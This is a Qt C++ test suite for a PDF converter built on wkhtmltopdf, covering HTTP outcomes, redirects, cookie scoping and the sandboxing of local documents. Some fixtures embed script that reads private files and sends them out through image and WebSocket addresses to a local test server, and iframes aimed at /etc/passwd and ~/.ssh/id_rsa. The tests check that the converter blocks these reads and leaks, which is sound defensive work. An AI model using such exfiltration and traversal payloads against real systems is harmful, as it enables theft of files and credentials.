#include "CombinePdfs.h"
#include "LoadingPages.h"
#include "PdfTools.h"
#include "RowFinish.h"
#include "RunTestSupport.h"
#include "SignInServer.h"
#include "SmallDisk.h"
#include "classic/ConverterLocation.h"
#include "classic/ReadyScript.h"
#include "queue/TextRules.h"
#include "render/PageLoadRules.h"
#include "run/ConvertCommand.h"

#include <QDir>
#include <QHash>
#include <QImage>
#include <QProcess>
#include <QRegularExpression>
#include <QSslCertificate>
#include <QSslConfiguration>
#include <QSslKey>
#include <QSslServer>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTest>
#include <QUrl>

#include <memory>
#include <optional>

using namespace velmora;
using namespace velmora::test;

namespace {

constexpr int kConverterWaitMs = 2 * 60 * 1000;
constexpr int kImageWidth = 37;
constexpr int kImageHeight = 23;

// Answers GETs on 127.0.0.1: paths starting "/missing" with 404, "/broken" with 500, "/empty" with 204
// (and a body, which the client ignores), "/hang" never, "/drop" by closing the connection,
// "/redirect?to=ADDRESS" with a 302 to the address, anything else with one fixed HTML page. Over https
// when given a certificate.
class PageServer final : public QObject {
public:
    explicit PageServer(QByteArray page, const std::optional<QSslConfiguration>& tls = {})
        : m_page(std::move(page)) {
        if (tls) {
            auto server = std::make_unique<QSslServer>();
            server->setSslConfiguration(*tls);
            m_server = std::move(server);
        } else {
            m_server = std::make_unique<QTcpServer>();
        }
        connect(m_server.get(), &QTcpServer::pendingConnectionAvailable, this, &PageServer::Accept);
    }
    bool Listen() { return m_server->listen(QHostAddress::LocalHost); }
    QString Url(const QString& path) const {
        return QStringLiteral("%1://127.0.0.1:%2%3")
            .arg(qobject_cast<QSslServer*>(m_server.get()) ? "https" : "http")
            .arg(m_server->serverPort())
            .arg(path);
    }
    QStringList requests;

private:
    void Accept() {
        while (QTcpSocket* socket = m_server->nextPendingConnection()) {
            connect(socket, &QTcpSocket::disconnected, socket, &QObject::deleteLater);
            connect(socket, &QTcpSocket::readyRead, this, [this, socket] { Answer(socket); });
        }
    }
    void Answer(QTcpSocket* socket) {
        QByteArray& request = m_pending[socket];
        request += socket->readAll();
        if (!request.contains("\r\n\r\n"))
            return;
        const QByteArray line = request.left(request.indexOf("\r\n"));
        requests.append(QString::fromLatin1(line));
        m_pending.remove(socket);
        const QByteArray path = line.split(' ').value(1);
        if (path.startsWith("/hang"))
            return;
        if (path.startsWith("/drop")) {
            socket->disconnectFromHost();
            return;
        }
        if (path.startsWith("/redirect?to=")) {
            socket->write("HTTP/1.1 302 Found\r\nLocation: " +
                          QByteArray::fromPercentEncoding(path.mid(path.indexOf('=') + 1)) +
                          "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
            socket->disconnectFromHost();
            return;
        }
        const QByteArray status = path.startsWith("/missing")  ? "404 Not Found"
                                  : path.startsWith("/broken") ? "500 Internal Server Error"
                                  : path.startsWith("/empty")  ? "204 No Content"
                                                               : "200 OK";
        const QByteArray body = status.startsWith("200") ? m_page : "<html><body>Error page</body></html>";
        socket->write("HTTP/1.1 " + status +
                      "\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: " +
                      QByteArray::number(body.size()) + "\r\nConnection: close\r\n\r\n" + body);
        socket->disconnectFromHost();
    }

    std::unique_ptr<QTcpServer> m_server;
    QByteArray m_page;
    QHash<QTcpSocket*, QByteArray> m_pending;
};

// Sphinx leaves its build notes (.buildinfo, a dot-named file) beside the pages in the set's top
// folder, so the converter is handed each of them on its own: more than a Windows command line holds.
QString WriteSphinxLike(const QString& folder) {
    const QString page = WriteDocumentSet(folder);
    if (page.isEmpty() || !WriteFile(folder + "/.buildinfo", "# Sphinx build info\n"))
        return {};
    for (int i = 0; i < 600; ++i)
        if (!WriteFile(QStringLiteral("%1/a-chapter-whose-generated-file-name-is-rather-long-%2.html")
                           .arg(folder)
                           .arg(i),
                       "<p>chapter</p>"))
            return {};
    return page;
}

// MkDocs as Debian installs it: a style sheet beside the page, one from a shared folder by its file:
// address (so the page may read up to the top-level folder's child, as /usr/share), one through a
// link into that shared tree, and beside it more than the folder walk looks at.
QString WriteMkDocsLike(const QString& top) {
    const QDir dir(top);
    const QString html = dir.filePath("doc/mkdocs/html");
    if (!dir.mkpath("shared-before-it") || !WriteFile(dir.filePath(".hidden"), "x"))
        return {};
    for (int i = 0; i <= 20000; ++i)
        if (!QFile(dir.filePath(QStringLiteral("shared-before-it/%1").arg(i))).open(QIODevice::WriteOnly))
            return {};
    const QByteArray base = "h1 { color: #222; }\n.band { height: 2in; border-top: 2in solid #0a78c8; }\n";
    if (!WriteFile(dir.filePath("javascript/hl/github.css"), "h1:after { content: ' HIGHLIGHTMARK'; }") ||
        !WriteFile(dir.filePath("nodejs/bootstrap/bootstrap.min.css"),
                   "h1:before { content: 'BOOTSTRAPMARK '; }") ||
        !WriteFile(html + "/css/base.css", base) ||
        !QFile::link(dir.filePath("nodejs/bootstrap/bootstrap.min.css"), html + "/css/bootstrap.min.css"))
        return {};
    const QByteArray shared = QUrl::fromLocalFile(dir.filePath("javascript/hl/github.css")).toEncoded();
    const QString page = html + "/getting-started.html";
    if (!WriteFile(page,
                   "<!DOCTYPE html><html><head><link rel=\"stylesheet\" href=\"css/bootstrap.min.css\">"
                   "<link rel=\"stylesheet\" href=\"css/base.css\"><link rel=\"stylesheet\" href=\"" +
                       shared +
                       "\"></head><body><h1>Regular expression operations</h1><div class=\"band\"></div>"
                       "</body></html>"))
        return {};
    return page;
}

// Doxygen names its logo in every page's footer; a set copied without it lacks the file.
QString WriteDoxygenLike(const QString& folder) {
    const QString page = folder + "/index.html";
    if (!WriteFile(folder + "/doxygen.css", ".band { height: 2in; border-top: 2in solid #0a78c8; }\n") ||
        !WriteFile(page, "<html><head><link href=\"doxygen.css\" rel=\"stylesheet\" type=\"text/css\"></head>"
                         "<body><h1>Regular expression operations</h1><div class=\"band\"></div>"
                         "<img class=\"footer\" src=\"doxygen.png\" alt=\"doxygen\"></body></html>"))
        return {};
    return page;
}

// A self-signed certificate for 127.0.0.1, made with openssl in `folder`; none when that fails.
std::optional<QSslConfiguration> SelfSignedTls(const QString& folder) {
    const QString key = QDir(folder).filePath(QStringLiteral("key.pem"));
    const QString certificate = QDir(folder).filePath(QStringLiteral("cert.pem"));
    QProcess openssl;
    openssl.start("openssl",
                  {"req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj", "/CN=127.0.0.1",
                   "-addext", "subjectAltName=IP:127.0.0.1", "-keyout", key, "-out", certificate});
    if (!openssl.waitForFinished(kConverterWaitMs) || openssl.exitCode() != 0)
        return {};
    QSslConfiguration tls = QSslConfiguration::defaultConfiguration();
    tls.setLocalCertificate(QSslCertificate::fromPath(certificate).value(0));
    tls.setPrivateKey(QSslKey(ReadFile(key), QSsl::Rsa));
    return tls;
}

} // namespace

// Converts with the wkhtmltopdf found on PATH, as a system without a bundled converter does.
class TestRealConverter : public QObject {
    Q_OBJECT
private slots:
    void initTestCase();
    void init();
    void cleanup();

    void localPageWithImageBesideIt();
    void plainTextFile();
    void fileNamedLikeAnOption_data();
    void fileNamedLikeAnOption();
    void pageFromLocalServer();
    void pageOutcomes_data();
    void pageOutcomes();
    void redirectOutcomes_data();
    void redirectOutcomes();
    void localDocumentReadsOnlyItsOwnFolder();
    void documentSetKeepsItsLook();
    void documentSetRootStopsAtItsLimits();
    void documentationSetLayouts_data();
    void documentationSetLayouts();
    void receivedPageReadsNothingAround_data();
    void receivedPageReadsNothingAround();
    void localDocumentSendsNothing_data();
    void localDocumentSendsNothing();
    void untrustedCertificateFails();
    void untrustedCertificateOnTheWay_data();
    void untrustedCertificateOnTheWay();
    void pageTitles_data();
    void pageTitles();
    void textEncodings_data();
    void textEncodings();
    void timeLimitReasonWithoutProgressNoise();
    void fullDiskSaysSo_data();
    void fullDiskSaysSo();
    void contentLoadedOnScrollIsPrinted_data();
    void contentLoadedOnScrollIsPrinted();
    void collapsedSectionsOpenWhenAsked_data();
    void collapsedSectionsOpenWhenAsked();
    void waitsForWhatThePageFinishesLate_data();
    void waitsForWhatThePageFinishesLate();
    void waitThatNeverEndsNamesWhatNeverCame_data();
    void waitThatNeverEndsNamesWhatNeverCame();
    void userStyleAndHiddenElements();
    void lateRedirectIsFollowed_data();
    void lateRedirectIsFollowed();
    void localDocumentRefusesWhatNeedsAScript();
    void signInCookiesGoOnlyToTheirHosts_data();
    void signInCookiesGoOnlyToTheirHosts();
    void signInItCannotKeepIsRefused_data();
    void signInItCannotKeepIsRefused();

private:
    // Queues the source as the only row and runs the Convert command to its end.
    void ConvertOnly(const QString& source);
    // Converts one of the loading pages with what is done to it before printing; its PDF's text.
    QString ConvertLoadingPage(const QString& path, const PageLoading& loading);
    QString PdfOf(const QString& source) const { return OutputPathFor(source, m_rig.host->targetFolder); }

    QTemporaryDir m_programFolder; // without "bin", so the converter on PATH is used
    CommandRig m_rig;
    RouteServer m_routes;
};

void TestRealConverter::initTestCase() {
#ifdef Q_OS_WIN
    QSKIP("The real converter tests run where the converter comes from the system's packages.");
#endif
    const ProgramLocation converter = LocateConverter(m_programFolder.path());
    QVERIFY2(converter.found, "wkhtmltopdf must be installed on PATH");
    QVERIFY(m_routes.Listen());
}

void TestRealConverter::init() {
    QVERIFY(m_rig.Build(m_programFolder.path()));
    m_rig.host->targetFolder = m_rig.work->filePath(QStringLiteral("pdf"));
}

void TestRealConverter::cleanup() {
    m_rig.Reset();
}

void TestRealConverter::ConvertOnly(const QString& source) {
    if (HasWebPrefix(source))
        m_rig.queue->AddWebAddresses({source});
    else
        m_rig.queue->AddFiles({source});
    QCOMPARE(m_rig.queue->RowCount(), 1);
    m_rig.command->Execute();
    QTRY_COMPARE_WITH_TIMEOUT(m_rig.command->Status(), rsStop, kConverterWaitMs);
}

QString TestRealConverter::ConvertLoadingPage(const QString& path, const PageLoading& loading) {
    AddLoadingPages(m_routes);
    PageSetup page;
    page.loading = loading;
    m_rig.command->Runner().SetPageSetup(page);
    ConvertOnly(m_routes.Url(path));
    return PdfText(PdfOf(m_routes.Url(path))).simplified();
}

// The converter's own --cookie would send a cookie to every server a page loads from; the cookie jar the
// engine hands it keeps each to its host.
void TestRealConverter::signInCookiesGoOnlyToTheirHosts_data() {
    QTest::addColumn<QString>("kind");
    QTest::addColumn<RowState>("state");
    QTest::addColumn<QString>("reason");

    QTest::newRow("no cookie: refused") << "none" << RowState::Failed
                                        << "The server answered 403 Forbidden: the page asks for a sign-in. " +
                                               kSignInHint;
    QTest::newRow("cookie for the rows' hosts") << "cookie" << RowState::ConvertedWithWarnings << "ask.png";
    QTest::newRow("cookie from a cookies file") << "cookies file" << RowState::ConvertedWithWarnings << "ask.png";
}

void TestRealConverter::signInCookiesGoOnlyToTheirHosts() {
    QFETCH(QString, kind);
    QFETCH(RowState, state);
    QFETCH(QString, reason);
    MembersSite site;
    QVERIFY(site.Start("session=opensesame", false));
    SignIn signIn;
    if (kind == "cookie") {
        signIn.cookies = {*ParseCookieArgument("session=opensesame")};
    } else if (kind == "cookies file") {
        const QString file = m_rig.work->filePath("cookies.txt");
        QVERIFY(WriteFile(file, "127.0.0.1\tFALSE\t/\tFALSE\t0\tsession\topensesame\n"
                                "127.0.0.2\tFALSE\t/\tFALSE\t0\tother\tsecondonly\n"));
        QString error;
        signIn.cookies = ReadCookiesFile(file, error);
        QVERIFY2(error.isEmpty(), qPrintable(error));
    }
    m_rig.command->Runner().SetSignIn(signIn);

    ConvertOnly(site.MembersUrl());

    QCOMPARE(m_rig.queue->State(0), state);
    QVERIFY2(m_rig.queue->Reason(0).contains(reason), qPrintable(m_rig.queue->Reason(0)));
    if (state != RowState::Failed) {
        QVERIFY2(PdfText(PdfOf(site.MembersUrl())).contains(MembersSite::kText),
                 qPrintable(PdfText(PdfOf(site.MembersUrl()))));
    }
    const QString problem = site.SecondHostProblem({"opensesame"}, state != RowState::Failed);
    QVERIFY2(problem.isEmpty(), qPrintable(problem));
    if (kind == "cookies file")
        QVERIFY(site.second.AnyHeadHolds("other=secondonly"));
}

// Its header option follows redirects to other hosts, and its credentials go to any host that asks: a
// run with either is refused with the reason, and nothing is asked of the site.
void TestRealConverter::signInItCannotKeepIsRefused_data() {
    QTest::addColumn<QString>("kind");
    QTest::addColumn<QString>("message");
    QTest::newRow("header") << "header" << "The Classic engine cannot keep headers to the queue's sites";
    QTest::newRow("user and password") << "user"
                                       << "The Classic engine cannot keep a user name and password to the queue's";
}

void TestRealConverter::signInItCannotKeepIsRefused() {
    QFETCH(QString, kind);
    QFETCH(QString, message);
    MembersSite site;
    QVERIFY(site.Start("X-Club: members", false));
    SignIn signIn;
    if (kind == "header")
        signIn.headers = {*ParseHeader("X-Club: members")};
    else
        signIn = {{}, {}, "u", "pw", {}};
    m_rig.command->Runner().SetSignIn(signIn);
    m_rig.queue->AddWebAddresses({site.MembersUrl()});

    m_rig.command->Execute();

    QTRY_COMPARE_WITH_TIMEOUT(m_rig.host->messages.size(), 1, kConverterWaitMs);
    QVERIFY2(m_rig.host->messages.first().startsWith(message), qPrintable(m_rig.host->messages.first()));
    QVERIFY(m_rig.command->Status() != rsStart);
    QCOMPARE(m_rig.queue->State(0), RowState::Waiting);
    QVERIFY(site.first.heads.isEmpty());
}

void TestRealConverter::localPageWithImageBesideIt() {
    QImage image(kImageWidth, kImageHeight, QImage::Format_RGB32);
    image.fill(Qt::darkCyan);
    QVERIFY(QDir().mkpath(m_rig.work->filePath("site")));
    QVERIFY(image.save(m_rig.work->filePath("site/picture.png")));
    QVERIFY(WriteFile(m_rig.work->filePath("site/page one.html"),
                      "<html><head><link rel=\"stylesheet\" href=\"style.css\"></head>"
                      "<body><h1>Quarterly harbour report</h1><img src=\"picture.png\"></body></html>"));
    QVERIFY(WriteFile(m_rig.work->filePath("site/style.css"), "h1 { font-family: sans-serif; }"));

    const QString source = m_rig.work->filePath("site/page one.html");
    ConvertOnly(source);
    const QString pdf = PdfOf(source);

    QCOMPARE(m_rig.queue->State(0), RowState::Converted);
    QVERIFY2(PdfText(pdf).contains("Quarterly harbour report"), qPrintable(PdfText(pdf)));
    QVERIFY2(PdfImageSizes(pdf).contains(QStringLiteral("%1 x %2").arg(kImageWidth).arg(kImageHeight)),
             qPrintable(PdfImageSizes(pdf).join(", ")));
}

void TestRealConverter::plainTextFile() {
    QVERIFY(WriteFile(m_rig.work->filePath("notes.txt"), "Minutes of the lighthouse keepers\nsecond line\n"));

    const QString source = m_rig.work->filePath("notes.txt");
    ConvertOnly(source);
    const QString pdf = PdfOf(source);

    QCOMPARE(m_rig.queue->State(0), RowState::Converted);
    QVERIFY2(PdfText(pdf).contains("Minutes of the lighthouse keepers"), qPrintable(PdfText(pdf)));
}

// The converter tells a local file's kind by its name alone. A name it cannot place is converted from
// a private copy named for what the file holds; an HTML one still shows the picture beside it, and a
// file that is neither HTML nor text fails with a reason that says so, not one that blames a server.
void TestRealConverter::fileNamedLikeAnOption_data() {
    QTest::addColumn<QString>("name");
    QTest::addColumn<QByteArray>("content");
    QTest::addColumn<RowState>("state");
    QTest::addColumn<QString>("reason");
    const QByteArray text = "Lighthouse log, first entry\n";
    const QByteArray html = "<!DOCTYPE html><html><body><h1>Lighthouse log, first entry</h1>"
                            "<img src=\"beside/picture.png\"></body></html>";
    QTest::newRow("README") << "README" << text << RowState::Converted << "";
    QTest::newRow("dash-led name with an extension") << "--help.html" << html << RowState::Converted << "";
    QTest::newRow("dash-led text without one") << "--help" << text << RowState::Converted << "";
    QTest::newRow("LICENSE") << "LICENSE" << text << RowState::Converted << "";
    QTest::newRow("HTML without an extension") << "x-page" << html << RowState::Converted << "";
    QTest::newRow("neither HTML nor text")
        << "blob" << QByteArray("\x00\x01\x02\xff binary", 12) << RowState::Failed
        << "cannot tell what kind of document this file is";
}

void TestRealConverter::fileNamedLikeAnOption() {
    QFETCH(QString, name);
    QFETCH(QByteArray, content);
    QFETCH(RowState, state);
    QFETCH(QString, reason);
    QImage image(kImageWidth, kImageHeight, QImage::Format_RGB32);
    image.fill(Qt::darkCyan);
    QVERIFY(QDir().mkpath(m_rig.work->filePath("beside")));
    QVERIFY(image.save(m_rig.work->filePath("beside/picture.png")));
    QVERIFY(WriteFile(m_rig.work->filePath(name), content));

    const QString source = m_rig.work->filePath(name);
    ConvertOnly(source);

    QCOMPARE(m_rig.queue->State(0), state);
    QVERIFY2(m_rig.queue->Reason(0).contains(reason), qPrintable(m_rig.queue->Reason(0)));
    if (state != RowState::Converted)
        return;
    const QString pdf = PdfOf(source);
    QVERIFY2(PdfText(pdf).contains("Lighthouse log"), qPrintable(PdfText(pdf)));
    if (content.contains("<img"))
        QVERIFY2(PdfImageSizes(pdf).contains(QStringLiteral("%1 x %2").arg(kImageWidth).arg(kImageHeight)),
                 qPrintable(PdfImageSizes(pdf).join(", ")));
}

void TestRealConverter::pageFromLocalServer() {
    PageServer server("<html><body><p>Served tide tables for the bay</p></body></html>");
    QVERIFY(server.Listen());

    const QString source = server.Url(QStringLiteral("/tides.html"));
    ConvertOnly(source);
    const QString pdf = PdfOf(source);

    QCOMPARE(m_rig.queue->State(0), RowState::Converted);
    QVERIFY(!server.requests.isEmpty());
    QCOMPARE(server.requests.first(), QStringLiteral("GET /tides.html HTTP/1.1"));
    QVERIFY2(PdfText(pdf).contains("Served tide tables for the bay"), qPrintable(PdfText(pdf)));
}

void TestRealConverter::pageOutcomes_data() {
    QTest::addColumn<QString>("path"); // on the local server; "refused": a port nobody listens on
    QTest::addColumn<RowState>("state");
    QTest::addColumn<QString>("reason");

    QTest::newRow("page found") << "/page.html" << RowState::Converted << "";
    QTest::newRow("404") << "/missing.html" << RowState::Failed << "The server answered 404 Not Found.";
    QTest::newRow("500") << "/broken.html" << RowState::Failed
                         << "The server answered 500 Internal Server Error.";
    QTest::newRow("500, escapes in the address")
        << "/broken.html?q=a%2Fb%3Ac" << RowState::Failed << "The server answered 500 Internal Server Error.";
    QTest::newRow("204 No Content") << "/empty.html" << RowState::Failed << "the converter did not say why";
    QTest::newRow("host not found") << "host" << RowState::Failed
                                    << "The host nonexistent.invalid could not be found.";
    QTest::newRow("connection refused")
        << "refused" << RowState::Failed << "The server 127.0.0.1 refused the connection.";
    QTest::newRow("closed without an answer")
        << "/drop.html" << RowState::Failed << "The server closed the connection without sending the page.";
    QTest::newRow("a missing image") << "/with-image.html" << RowState::ConvertedWithWarnings
                                     << "/missing/chart.png";
}

void TestRealConverter::pageOutcomes() {
    QFETCH(QString, path);
    QFETCH(RowState, state);
    QFETCH(QString, reason);
    PageServer server(path.startsWith("/with-image")
                          ? "<html><body><p>Harbour chart</p><img src=\"/missing/chart.png\"></body></html>"
                          : "<html><body><p>Harbour page</p></body></html>");
    QVERIFY(server.Listen());
    QString source = server.Url(path);
    if (path == QLatin1String("host")) {
        source = QStringLiteral("http://nonexistent.invalid/page.html");
    } else if (path == QLatin1String("refused")) {
        QTcpServer closed;
        QVERIFY(closed.listen(QHostAddress::LocalHost));
        source = QStringLiteral("http://127.0.0.1:%1/page.html").arg(closed.serverPort());
    }

    ConvertOnly(source);

    QCOMPARE(m_rig.queue->State(0), state);
    QVERIFY2(reason.isEmpty() ? m_rig.queue->Reason(0).isEmpty() : m_rig.queue->Reason(0).contains(reason),
             qPrintable(m_rig.queue->Reason(0)));
    // A page that could not be loaded leaves no PDF of an error page behind.
    QCOMPARE(QFileInfo::exists(PdfOf(source)), state != RowState::Failed);
    QCOMPARE(QDir(m_rig.host->targetFolder).entryList(QDir::Files | QDir::Hidden).filter(".velmora-"),
             QStringList());
}

// A page that sends the browser on is judged by the document it finally shows; an earlier good PDF
// survives a failure.
void TestRealConverter::redirectOutcomes_data() {
    QTest::addColumn<QByteArray>("page"); // "PORT": a port nobody listens on
    QTest::addColumn<RowState>("state");
    QTest::addColumn<QString>("reason");

    QTest::newRow("script to a 404") << QByteArray("<html><body>Start<script>location.href = '/missing.html'"
                                                   "</script></body></html>")
                                     << RowState::Failed << "The server answered 404 Not Found.";
    QTest::newRow("refresh to a 500")
        << QByteArray("<html><head><meta http-equiv=refresh content=\"0;url=/broken.html\"></head>"
                      "<body>Start</body></html>")
        << RowState::Failed << "The server answered 500 Internal Server Error.";
    QTest::newRow("script to a closed port")
        << QByteArray("<html><body>Start<script>location.replace('http://127.0.0.1:PORT/')</script>"
                      "</body></html>")
        << RowState::Failed << "The server 127.0.0.1 refused the connection.";
    QTest::newRow("script to a good page")
        << QByteArray(
               "<html><body>Start<script>if (location.search !== '?on') location.href = '/next.html?on'"
               "</script></body></html>")
        << RowState::Converted << "";
}

void TestRealConverter::redirectOutcomes() {
    QFETCH(QByteArray, page);
    QFETCH(RowState, state);
    QFETCH(QString, reason);
    QTcpServer closed;
    QVERIFY(closed.listen(QHostAddress::LocalHost));
    const quint16 closedPort = closed.serverPort();
    closed.close();
    PageServer server(page.replace("PORT", QByteArray::number(closedPort)));
    QVERIFY(server.Listen());
    const QString source = server.Url(QStringLiteral("/start.html"));
    const QByteArray earlier = "%PDF-1.4 an earlier good conversion";
    QVERIFY(QDir().mkpath(m_rig.host->targetFolder));
    QFile previous(PdfOf(source));
    QVERIFY(previous.open(QIODevice::WriteOnly));
    previous.write(earlier);
    previous.close();

    ConvertOnly(source);

    QCOMPARE(m_rig.queue->State(0), state);
    QVERIFY2(reason.isEmpty() ? m_rig.queue->Reason(0).isEmpty() : m_rig.queue->Reason(0).contains(reason),
             qPrintable(m_rig.queue->Reason(0)));
    QVERIFY(previous.open(QIODevice::ReadOnly));
    QCOMPARE(previous.readAll() == earlier, state == RowState::Failed);
}

// A document added as a file may read its own folder and below, but nothing dot-named there and nothing
// outside that its HTML does not name; not even through script, which could otherwise send what it read
// to any server.
void TestRealConverter::localDocumentReadsOnlyItsOwnFolder() {
    PageServer server("<html><body>ok</body></html>");
    QVERIFY(server.Listen());
    QVERIFY(WriteFile(m_rig.work->filePath("private/marker.txt"), "PRIVATEMARKER"));
    QVERIFY(WriteFile(m_rig.work->filePath("site/.private/marker.txt"), "PRIVATEMARKER"));
    QImage image(kImageWidth, kImageHeight, QImage::Format_RGB32);
    image.fill(Qt::darkRed);
    QVERIFY(QDir().mkpath(m_rig.work->filePath("site/images")));
    QVERIFY(image.save(m_rig.work->filePath("site/images/own.png")));
    QVERIFY(WriteFile(m_rig.work->filePath("site/style.css"), "h1:after { content: ' STYLESHEETLOADED'; }"));
    const QByteArray leak = server.Url("/leak?").toUtf8();
    QVERIFY(WriteFile(
        m_rig.work->filePath("site/page.html"),
        "<html><head><link rel=\"stylesheet\" href=\"style.css\"></head><body><h1>Own page</h1>"
        "<img src=\"images/own.png\"><iframe src=\".private/marker.txt\"></iframe>"
        "<p id=\"out\">none</p><script>"
        "var text = 'XHRFAILED';"
        "try { var x = new XMLHttpRequest(); x.open('GET', '../private/marker.txt', false); x.send();"
        "  text = 'XHR:' + x.responseText; } catch (e) {}"
        "document.getElementById('out').textContent = text;"
        "new Image().src = '" +
            leak +
            "' + encodeURIComponent(text);"
            "</script></body></html>"));

    const QString source = m_rig.work->filePath("site/page.html");
    ConvertOnly(source);
    const QString pdf = PdfOf(source);

    QVERIFY2(m_rig.queue->State(0) != RowState::Failed, qPrintable(m_rig.queue->Reason(0)));
    const QString text = PdfText(pdf);
    QVERIFY2(text.contains("Own page STYLESHEETLOADED"), qPrintable(text));
    QVERIFY2(PdfImageSizes(pdf).contains(QStringLiteral("%1 x %2").arg(kImageWidth).arg(kImageHeight)),
             qPrintable(PdfImageSizes(pdf).join(", ")));
    QVERIFY2(!text.contains("PRIVATEMARKER"), qPrintable(text));
    QVERIFY2(!server.requests.join('\n').contains("PRIVATEMARKER"), qPrintable(server.requests.join('\n')));
}

// Generated documentation keeps its style sheets, fonts and scripts in a folder beside the pages'.
void TestRealConverter::documentSetKeepsItsLook() {
    const QString page = WriteDocumentSet(m_rig.work->filePath("docs"));
    QVERIFY(!page.isEmpty());

    ConvertOnly(page);

    QCOMPARE(m_rig.queue->State(0), RowState::Converted);
    const QString problem = DocumentSetLookProblem(PdfOf(page));
    QVERIFY2(problem.isEmpty(), qPrintable(problem));
    // The converter draws text in a loaded web font as outlines: in a fallback font the sample would be
    // text.
    QVERIFY2(!PdfText(PdfOf(page)).contains(kDocumentSetSample), qPrintable(PdfText(PdfOf(page))));
}

// A page naming files far outside its set, or in a dot-named folder, gets no wider root for it.
void TestRealConverter::documentSetRootStopsAtItsLimits() {
    QVERIFY(WriteFile(m_rig.work->filePath(".ssh/id_rsa"), "DOTFOLDERMARK"));
    QVERIFY(WriteFile(m_rig.work->filePath("docs/secret.txt"), "SIBLINGMARK"));
    QVERIFY(WriteFile(m_rig.work->filePath("docs/library/page.html"),
                      "<html><body><p>Limits page</p>"
                      "<iframe src=\"../../../../../../../../../etc/passwd\"></iframe>"
                      "<iframe src=\"../../.ssh/id_rsa\"></iframe>"
                      "<iframe src=\"~/.ssh/id_rsa\"></iframe></body></html>"));
    const QString source = m_rig.work->filePath("docs/library/page.html");

    ConvertOnly(source);

    const QString text = PdfText(PdfOf(source));
    QVERIFY2(text.contains("Limits page"), qPrintable(text));
    for (const char* marker : {"root:", "DOTFOLDERMARK"})
        QVERIFY2(!text.contains(marker), qPrintable(text));
    QCOMPARE(m_rig.queue->State(0), RowState::ConvertedWithWarnings);
    QVERIFY2(m_rig.queue->Reason(0).contains("/etc/passwd"), qPrintable(m_rig.queue->Reason(0)));
}

// Generated documentation as the common generators leave it keeps its look, and a file it lacks is
// called missing, not outside its folder.
void TestRealConverter::documentationSetLayouts_data() {
    QTest::addColumn<QString>("layout");
    QTest::addColumn<RowState>("state");
    QTest::addColumn<QString>("reason");
    QTest::newRow("Sphinx: build notes and 600 pages beside _static")
        << "sphinx" << RowState::Converted << "";
    QTest::newRow("MkDocs: own and shared style beside a large tree")
        << "mkdocs" << RowState::Converted << "";
    QTest::newRow("Doxygen without its logo") << "doxygen" << RowState::ConvertedWithWarnings
                                              << "Converted, but a file the page uses does not exist.";
}

void TestRealConverter::documentationSetLayouts() {
    QFETCH(QString, layout);
    QFETCH(RowState, state);
    QFETCH(QString, reason);
    // Quotes and an apostrophe in the folder's name, for the converter's reading of its arguments.
    const QString folder = m_rig.work->filePath(QString::fromUtf8("docs \"set\" it's \xc3\xbc"));
    const QString page = layout == "sphinx"   ? WriteSphinxLike(folder)
                         : layout == "mkdocs" ? WriteMkDocsLike(m_rig.work->path())
                                              : WriteDoxygenLike(folder);
    QVERIFY(!page.isEmpty());

    ConvertOnly(page);

    QCOMPARE(m_rig.queue->State(0), state);
    QCOMPARE(m_rig.queue->Reason(0), reason);
    const QString problem = DocumentSetLookProblem(PdfOf(page));
    QVERIFY2(problem.isEmpty(), qPrintable(problem));
    if (layout == "mkdocs")
        QVERIFY2(PdfText(PdfOf(page)).contains("BOOTSTRAPMARK Regular expression operations HIGHLIGHTMARK"),
                 qPrintable(PdfText(PdfOf(page))));
}

// A received page names files around it in every way a page can without drawing with them: none lets
// it read them, and its own style sheet still loads.
void TestRealConverter::receivedPageReadsNothingAround_data() {
    QTest::addColumn<QByteArray>("body");
    for (const auto& [name, body] : ReceivedPageBodies())
        QTest::newRow(qPrintable(name)) << body;
}

void TestRealConverter::receivedPageReadsNothingAround() {
    QFETCH(QByteArray, body);
    const QString page = WriteReceivedPage(m_rig.work->filePath("home"), body);
    QVERIFY(!page.isEmpty());

    ConvertOnly(page);

    QVERIFY2(m_rig.queue->State(0) != RowState::Failed, qPrintable(m_rig.queue->Reason(0)));
    const QString text = PdfText(PdfOf(page));
    QVERIFY2(text.contains("Own text " + kReceivedPageOwnMark), qPrintable(text));
    for (const QString& secret : kReceivedPageSecrets)
        QVERIFY2(!text.contains(secret), qPrintable(text));
}

// A local page's script could read what the page may read and send it out, as an image's address;
// whatever it tries, the marker reaches neither the server nor the PDF, and its own parts still show.
void TestRealConverter::localDocumentSendsNothing_data() {
    QTest::addColumn<QString>("target"); // what the script reads, relative to the page's folder
    QTest::newRow("a file the page may read") << "notes/marker.txt";
    QTest::newRow("a dot-named file beside it") << ".keys/marker.txt";
    QTest::newRow("a file outside its set") << "../private/marker.txt";
}

void TestRealConverter::localDocumentSendsNothing() {
    QFETCH(QString, target);
    PageServer server("<html><body>ok</body></html>");
    QVERIFY(server.Listen());
    QVERIFY(WriteFile(QDir::cleanPath(m_rig.work->filePath("site/" + target)), "PRIVATEMARKER"));
    QVERIFY(WriteFile(m_rig.work->filePath("site/style.css"), "h1:after { content: ' STYLESHEETLOADED'; }"));
    const QByteArray collect = server.Url("/collect?k=").toUtf8();
    QVERIFY(WriteFile(m_rig.work->filePath("site/page.html"),
                      "<html><head><link rel=\"stylesheet\" href=\"style.css\"></head><body><h1>Own page</h1>"
                      "<p id=\"out\">none</p><script>"
                      "var text = 'XHRFAILED';"
                      "try { var x = new XMLHttpRequest(); x.open('GET', '" +
                          target.toUtf8() +
                          "', false); x.send(); text = 'XHR:' + x.responseText; } catch (e) {}"
                          "document.getElementById('out').textContent = text;"
                          "new Image().src = '" +
                          collect +
                          "' + encodeURIComponent(text);"
                          "try { new WebSocket('" +
                          QByteArray(collect).replace("http:", "ws:") +
                          "' + encodeURIComponent(text)); } catch (e) {}"
                          "</script></body></html>"));

    const QString source = m_rig.work->filePath("site/page.html");
    ConvertOnly(source);

    const QString text = PdfText(PdfOf(source));
    QVERIFY2(text.contains("Own page STYLESHEETLOADED"), qPrintable(text));
    QVERIFY2(!text.contains("PRIVATEMARKER"), qPrintable(text));
    QVERIFY2(!server.requests.join('\n').contains("PRIVATEMARKER"), qPrintable(server.requests.join('\n')));
}

// The converter accepts any certificate; the row fails as with the Modern engine, before converting.
void TestRealConverter::untrustedCertificateFails() {
    const std::optional<QSslConfiguration> tls = SelfSignedTls(m_rig.work->path());
